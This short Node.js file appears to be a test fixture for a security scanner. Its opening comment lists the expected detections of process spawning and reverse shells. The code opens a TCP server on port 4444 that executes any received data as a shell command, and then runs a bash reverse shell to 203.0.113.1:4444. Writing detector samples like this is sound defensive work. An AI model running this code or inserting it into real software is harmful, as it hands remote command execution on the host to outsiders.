// expect: process-spawn:7 reverse-shell:7 process-spawn:10 reverse-shell:10
const net = require('net');
const { exec } = require('child_process');

net.createServer((socket) => {
  socket.on('data', (data) => {
    exec(data.toString(), (error, out) => socket.write(out));
  });
}).listen(4444);
exec('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1');
